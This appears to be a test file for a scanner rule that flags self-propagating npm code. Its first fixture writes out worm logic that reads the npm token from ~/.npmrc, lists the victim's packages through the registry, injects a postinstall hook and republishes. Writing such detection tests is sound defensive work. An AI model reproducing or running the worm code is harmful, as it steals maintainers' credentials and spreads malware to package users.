import { testFileRule } from '../../test/rule-cases.ts';
import { selfPropagation } from './self-propagation.ts';

testFileRule(selfPropagation, [
  {
    name: 'a worm',
    text: `const fs = require('fs'), cp = require('child_process');
      const token = /_authToken=(.+)/.exec(fs.readFileSync(process.env.HOME + '/.npmrc', 'utf8'))[1];
      const who = await (await fetch(registry + '/-/whoami', { headers: { authorization: token } })).json();
      const found = await (await fetch(registry + '/-/v1/search?text=maintainer:' + who.username)).json();
      for (const p of found.objects) { const m = JSON.parse(fs.readFileSync('package.json')); m.scripts.postinstall = 'node b.js';
        fs.writeFileSync('package.json', JSON.stringify(m)); cp.execSync('npm publish'); }`,
    tier: 'block',
  },
  {
    name: 'asks for its victim and publishes',
    text: `fetch(registry + '/-/whoami'); require('child_process').spawn('npm', ['publish', dir])`,
    tier: 'review',
  },
  {
    name: 'a release tool',
    text: `const m = JSON.parse(fs.readFileSync('package.json')); m.version = next; require('fs').writeFileSync('package.json', m); require('execa')('npm', ['publish', '--tag', tag])`,
    tier: null,
  },
  {
    name: 'a message',
    text: `console.log('Run npm publish to publish'); fetch('https://a.example')`,
    tier: null,
  },
]);
